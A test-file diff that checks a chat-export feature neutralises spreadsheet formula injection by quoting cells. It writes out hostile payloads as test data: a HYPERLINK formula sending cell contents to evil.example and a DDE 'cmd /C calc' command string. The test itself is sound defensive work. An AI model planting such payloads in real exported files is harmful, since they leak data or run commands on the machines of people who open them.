@@ -189,4 +189,49 @@ describe('agent workspace end to end: a user message opens a chat, an agent answ
     ]);
     expect(rows.rows[0].n).toBe(2);
   });
+
+  it('exports what users typed as text: a cell that would start a formula gets a leading quote', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"ver pedido")';
+    const texts = [formula, '\t-2+3+cmd|" /C calc"!A0', '-1'];
+    let chat: any;
+    for (const [i, text] of texts.entries()) {
+      // One at a time, so the export's rows come in this order.
+      await userWrites(stack.sandbox, t, '573004445566', text, '@SUMA(1+1)');
+      chat = await chatOf(t.api, '+573004445566');
+      await eventually(async () => {
+        const acts = await t.api.get(`/v1/engagement/chat/${chat.chat_id}/activities?activity_type=message`);
+        expect(acts.body.activities).toHaveLength(i + 1);
+      });
+    }
+    const month = new Date().toISOString().slice(0, 7);
+    const requested = await t.api.postJson('/v1/engagement/chat/export', {
+      language: 'en',
+      export_type: 'single_chat',
+      export_format: 'tsv',
+      time_range_start_date: month,
+      time_range_end_date: month,
+      chat_id: chat.chat_id,
+    });
+    expect(requested.status).toBe(201);
+    const done = await eventually(async () => {
+      const got = await t.api.get(`/v1/engagement/chat/export/${requested.body.export_id}`);
+      if (got.body.status !== 'completed') throw new Error(`export is ${got.body.status}`);
+      return got.body;
+    });
+    const link = new URL(done.download_url);
+    const text = await (await fetch(`${stack.engagement.url}${link.pathname}${link.search}`)).text();
+    const rows = text
+      .trimEnd()
+      .split('\n')
+      .slice(1)
+      .map((l) => l.split('\t'));
+    // contact phone and name, actor, text
+    expect(rows.map((r) => [r[2], r[3], r[8], r[10]])).toEqual([
+      ['+573004445566', "'@SUMA(1+1)", '+573004445566', `'${formula}`],
+      ['+573004445566', "'@SUMA(1+1)", '+573004445566', `'\\t-2+3+cmd|" /C calc"!A0`],
+      ['+573004445566', "'@SUMA(1+1)", '+573004445566', '-1'],
+    ]);
+    // No cell of the file starts a formula.
+    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+@-](?![0-9.]+$)/);
+  });
 });
